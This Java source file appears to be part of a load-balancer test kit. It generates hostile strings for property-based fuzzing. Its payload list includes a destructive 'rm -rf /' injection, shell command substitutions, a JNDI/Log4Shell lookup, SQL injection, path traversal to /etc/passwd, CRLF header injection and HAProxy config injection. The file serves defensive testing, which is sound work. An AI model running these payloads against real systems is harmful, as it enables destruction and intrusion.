package org.lbaas.testkit;

import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;

/** The hostile strings behind {@link LbArbitraries#hostileStrings()}. */
final class Hostile {

    /** Single characters and short sequences that end a line, a word, a token or a quote. */
    static final List<String> ATOMS = List.of(
            "\n", "\r", "\r\n", "\u0000", "#", " ", "  ", "\t", "\"", "'", "\\", "$", "%", "`", ";", "|", "&", "<", ">",
            "{", "}", "[", "]", "=", ":", "@", "/", "?", "*", ",", "\u000b", "\u000c", "\u001b", "\u007f", "\u0085",
            "\u00a0", "\u2028", "\u2029", "\u202e", "\u202d", "\u2066", "\u200b", "\u200d", "\ufeff", "\u3000",
            "\udb40\udc01", "\ud800", "\u00e9", "\ud83d\ude00");

    /** Payloads aimed at an HAProxy configuration, a shell, a log or a terminal. */
    static final List<String> PAYLOADS = List.of(
            "\nbackend evil\n    server x 192.0.2.66:80",
            "x\r\n    bind :22",
            "x # comment swallows the rest",
            "\"; rm -rf / #",
            "$(reboot)",
            "`id`",
            "${jndi:ldap://192.0.2.1/a}",
            "%s%n%x",
            "%0d%0aSet-Cookie: x=1",
            "' OR '1'='1",
            "../../etc/passwd",
            "\u202egnp.exe",
            "a\u0000b",
            "stats socket /tmp/x mode 666 level admin",
            "  leading and trailing  ",
            "line one\u2028line two",
            "JSESSIONID=1; Path=/",
            "/health\nhttp-check expect status 200",
            "\u001b[31mred\u001b[0m",
            "GET / HTTP/1.0\r\nHost: x\r\n\r\n",
            "name\\\nnext",
            "\"quoted \\\"inner\\\"\"");

    private Hostile() {
    }

    static Arbitrary<String> strings() {
        Arbitrary<String> atom = Arbitraries.of(ATOMS);
        Arbitrary<String> payload = Arbitraries.of(PAYLOADS);
        Arbitrary<String> plain = Arbitraries.strings().withCharRange('a', 'z').withCharRange('0', '9').ofMaxLength(12);
        Arbitrary<String> fragment = Arbitraries.frequencyOf(Gen.weight(3, atom), Gen.weight(1, payload), Gen.weight(3, plain));
        Arbitrary<String> mix = Combinators.combine(plain, Arbitraries.oneOf(atom, payload), fragment.list().ofMaxSize(6))
                .as((head, hostile, tail) -> head + hostile + String.join("", tail));
        Arbitrary<String> longOnes = Combinators.combine(Arbitraries.of("a", "#", "\n", "%", " ", "\"", "\u2028", "ab\r"),
                Arbitraries.of(256, 1025, 4096, 70_000)).as((unit, n) -> unit.repeat(Math.max(1, n / unit.length())));
        Arbitrary<String> longTail = Combinators.combine(Arbitraries.of(256, 1025, 65_536), atom)
                .as((n, x) -> "a".repeat(n) + x);
        return Arbitraries.frequencyOf(Gen.weight(2, atom), Gen.weight(2, payload), Gen.weight(6, mix),
                Gen.weight(1, longOnes), Gen.weight(1, longTail));
    }
}
